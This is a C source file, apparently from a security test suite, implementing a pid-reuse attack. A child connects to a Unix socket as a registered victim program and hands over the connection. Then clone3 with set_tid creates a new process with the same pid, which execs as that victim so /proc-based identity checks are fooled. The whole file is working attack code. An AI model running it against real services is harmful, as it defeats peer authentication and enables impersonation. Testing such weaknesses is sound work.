/* SPDX-License-Identifier: Apache-2.0 */
/*
 * pid_reuse SOCKET VICTIM UID: as root. A child connects under UID as VICTIM would and ends,
 * leaving the connection with us; then a new process gets the very same pid (clone3 with set_tid),
 * takes UID, becomes VICTIM and so looks from /proc like the one that connected. It asks on the old
 * connection through descriptor 3, as does its helper.
 *
 * VICTIM is a copy of this program, under the path that the registration entry names: with
 * "--connect" it connects and passes the connection up, with "--use" it asks on descriptor 3.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"

static void become(uid_t uid, char *const args[])
{
	if (setresgid(uid, uid, uid) || setresuid(uid, uid, uid))
		die("uid: %s", strerror(errno));
	execv(args[0], args);
	die("exec %s: %s", args[0], strerror(errno));
}

int main(int argc, char **argv)
{
	struct answer a;
	int pair[2], fd, status;
	char up[16];
	uid_t uid;
	pid_t first, second;

	if (argc == 4 && !strcmp(argv[1], "--connect")) {
		fd_send((int)strtol(argv[3], NULL, 10), dial(argv[2]));
		return 0;
	}
	if (argc == 2 && !strcmp(argv[1], "--use")) {
		ask(3);
		a = hear(3, 3000);
		report("pid_reuse", &a);
		return 0;
	}
	if (argc != 4)
		die("usage: pid_reuse SOCKET VICTIM UID");
	uid = (uid_t)strtoul(argv[3], NULL, 10);
	if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair))
		die("socketpair: %s", strerror(errno));
	first = fork();
	if (first < 0)
		die("fork: %s", strerror(errno));
	if (first == 0) {
		snprintf(up, sizeof(up), "%d", pair[1]);
		become(uid, (char *const[]){argv[2], (char[]){"--connect"}, argv[1], up, NULL});
	}
	fd = fd_take(pair[0]);
	if (fd < 0)
		die("the first process passed no connection");
	waitpid(first, &status, 0);

	/* The pid is free now, and the connection still open at our end. */
	{
		pid_t tid = first;
		struct clone_args args = {.exit_signal = SIGCHLD,
					  .set_tid = (uint64_t)(uintptr_t)&tid,
					  .set_tid_size = 1};

		second = (pid_t)syscall(SYS_clone3, &args, sizeof(args));
	}
	if (second < 0)
		die("clone3 with set_tid: %s", strerror(errno));
	if (second == 0) {
		if (fd != 3 && dup2(fd, 3) < 0)
			die("dup2: %s", strerror(errno));
		become(uid, (char *const[]){argv[2], (char[]){"--use"}, NULL});
	}
	waitpid(second, &status, 0);
	printf("{\"who\":\"parent\",\"same_pid\":%s}\n", first == second ? "true" : "false");
	return 0;
}
